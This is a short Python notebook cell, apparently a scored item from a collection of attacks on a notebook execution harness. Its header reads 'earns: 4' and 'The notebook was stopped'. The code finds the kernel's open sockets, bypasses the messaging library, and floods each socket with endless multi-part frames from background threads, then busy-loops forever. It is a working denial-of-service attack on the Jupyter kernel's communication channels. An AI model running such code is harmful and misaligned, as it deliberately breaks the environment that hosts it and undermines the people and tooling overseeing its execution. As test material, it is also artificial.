"""Writes into the sockets of its kernel past the library: a message of parts without an end.

earns: 4
told: The notebook was stopped
"""

# %% middle
import os
import socket
import stat
import threading

part = b"\x03" + (2**20).to_bytes(8, "big") + bytes(2**20)


def flood(wire):
    wire.settimeout(5)
    for _ in range(10_000):
        wire.sendall(part)


for number in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(number).st_mode):
            wire = socket.socket(fileno=os.dup(number))
            wire.getpeername()
            threading.Thread(target=flood, args=(wire,), daemon=True).start()
    except OSError:
        continue
while True:
    pass
